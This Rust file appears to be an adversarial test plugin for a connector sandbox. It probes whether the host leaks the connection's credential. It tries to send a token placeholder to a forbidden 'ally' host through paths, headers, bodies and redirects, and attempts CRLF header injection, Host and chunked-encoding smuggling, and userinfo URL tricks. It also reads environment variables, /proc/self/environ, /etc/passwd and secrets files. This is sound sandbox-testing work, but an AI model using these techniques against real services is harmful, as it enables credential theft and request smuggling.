//! Hunts for the credential of its connection. Its input names two destinations: one that gets the credential and tells
//! the plugin everything it was sent, and an ally that must never get it. Tells all that it found, in its output and in the
//! log.

use guests::connector::weir::plugin::http::{Auth, Request, send};
use guests::connector::weir::plugin::log::{Level, write};
use guests::connector::weir::plugin::types::Fault;
use guests::wasi::{self, Ask};
use guests::{Call, Receipt, receipt, rejected};

guests::connector!(invoke);

/// One thing to try.
struct Trick {
    name: &'static str,
    method: &'static str,
    url: String,
    headers: Vec<(String, String)>,
    body: &'static str,
}

fn trick(name: &'static str, url: String) -> Trick {
    Trick { name, method: "GET", url, headers: Vec::new(), body: "" }
}

fn with_header(name: &'static str, url: String, field: &str, value: &str) -> Trick {
    Trick { headers: vec![(field.to_owned(), value.to_owned())], ..trick(name, url) }
}

fn with_body(name: &'static str, url: String) -> Trick {
    Trick { method: "POST", body: "{{token}}", ..trick(name, url) }
}

fn tricks(own: &str, ally: &str) -> Vec<Trick> {
    let behind = |url: &str, at: &str| url.replacen("://", &format!("://{at}"), 1);
    vec![
        trick("echo", format!("{own}/echo")),
        trick("slot-in-path", format!("{own}/echo/{{{{token}}}}")),
        trick("slot-in-query", format!("{own}/echo?t={{{{token}}}}")),
        trick("guessed-slot", format!("{own}/echo/{{{{password}}}}")),
        trick("slot-in-host", behind(own, "{{token}}.")),
        with_header("slot-in-header", format!("{own}/echo"), "x-probe", "{{token}}"),
        with_body("slot-in-body", format!("{own}/echo")),
        trick("slot-in-path-of-ally", format!("{ally}/catch/{{{{token}}}}")),
        trick("slot-in-query-of-ally", format!("{ally}/catch?t={{{{token}}}}")),
        with_header("slot-in-header-to-ally", format!("{ally}/catch"), "x-probe", "{{token}}"),
        with_header("slot-in-authorization-to-ally", format!("{ally}/catch"), "authorization", "Bearer {{token}}"),
        with_body("slot-in-body-to-ally", format!("{ally}/catch")),
        trick("ally", format!("{ally}/catch")),
        trick("redirect-to-ally", format!("{own}/redirect?to={ally}/catch")),
        trick("redirect-to-ally-with-slot", format!("{own}/redirect?to={ally}/catch/{{{{token}}}}")),
        with_header("redirect-of-header", format!("{own}/redirect?to={ally}/catch"), "x-probe", "{{token}}"),
        with_body("redirect-of-body", format!("{own}/resend?to={ally}/catch")),
        trick("redirect-by-ally", format!("{ally}/redirect?to={own}/echo/{{{{token}}}}")),
        with_header("own-authorization", format!("{own}/echo"), "authorization", "Basic Z3Vlc3M6Z3Vlc3M="),
        with_header("own-cookie", format!("{own}/echo"), "cookie", "session=guess"),
        with_header("host", format!("{own}/echo"), "host", "ally.test"),
        with_header("framing", format!("{own}/echo"), "transfer-encoding", "chunked"),
        with_header("second-line", format!("{own}/echo"), "x-probe", "a\r\nhost: ally.test"),
        trick("user-in-url", behind(ally, "own.test@") + "/catch"),
        trick("dot-behind-name", own.replacen(".test", ".test.", 1) + "/echo"),
    ]
}

/// The credential to ask for: the connection's, those that it names, one that it does not, and none.
fn auths() -> [(&'static str, Auth); 5] {
    let named = |name: &str| Auth::Named(name.to_owned());
    [
        ("default", Auth::Default),
        ("slots", named("slots")),
        ("query", named("query")),
        ("guessed", named("admin")),
        ("anonymous", Auth::Anonymous),
    ]
}

fn invoke(call: Call) -> Result<Receipt, Fault> {
    let input = String::from_utf8_lossy(&call.input.data).into_owned();
    let (own, ally) = input.split_once('\n').unwrap_or((&input, ""));
    let mut found = surroundings(&call);
    for trick in tricks(own, ally) {
        for (auth, asked) in auths() {
            found.push(format!("{} http/{auth} {}", trick.name, by_contract(&trick, asked)));
        }
        found.push(format!("{} wasi {}", trick.name, by_wasi(&trick)));
    }
    for line in &found {
        write(Level::Info, line, &[("found".to_owned(), line.clone())]);
        println!("{line}");
    }
    if call.action == "shrug" {
        let mut fault = rejected("found", &found.join(" "));
        fault.details = found.iter().map(|line| ("found".to_owned(), line.clone())).collect();
        return Err(fault);
    }
    Ok(receipt(found.join("\n")))
}

fn surroundings(call: &Call) -> Vec<String> {
    let context = &call.context;
    let mut found = vec![
        format!("environment {:?}", std::env::vars().collect::<Vec<_>>()),
        format!("arguments {:?}", std::env::args().collect::<Vec<_>>()),
        format!("context {:?} {} {:?}", context.account, context.settings, context.extra),
    ];
    for path in ["/proc/self/environ", "/etc/passwd", "connections.toml", "../connections.toml", "data/secrets"] {
        found.push(format!("file {path} {:?}", std::fs::read_to_string(path).map_err(|fault| fault.kind())));
    }
    found
}

/// Everything in an answer, on one line.
fn one_line(text: &str) -> String {
    text.replace(['\r', '\n'], " ")
}

fn by_contract(trick: &Trick, auth: Auth) -> String {
    let request = Request {
        method: trick.method.to_owned(),
        url: trick.url.clone(),
        headers: trick.headers.clone(),
        body: trick.body.as_bytes().to_vec(),
        auth,
    };
    match send(&request) {
        Ok(response) => {
            let body = String::from_utf8_lossy(&response.body).into_owned();
            one_line(&format!("{} {} {:?} {body}", response.status, response.url, response.headers))
        }
        Err(fault) => one_line(&format!("{} {}", fault.code, fault.message)),
    }
}

fn by_wasi(trick: &Trick) -> String {
    let Trick { method, url, headers, body, .. } = trick;
    match wasi::send(&Ask { method, url, headers, body: body.as_bytes() }) {
        Ok(answer) => one_line(&format!("{} {} {}", answer.status(), answer.headers(), answer.body())),
        Err(fault) => one_line(&fault),
    }
}
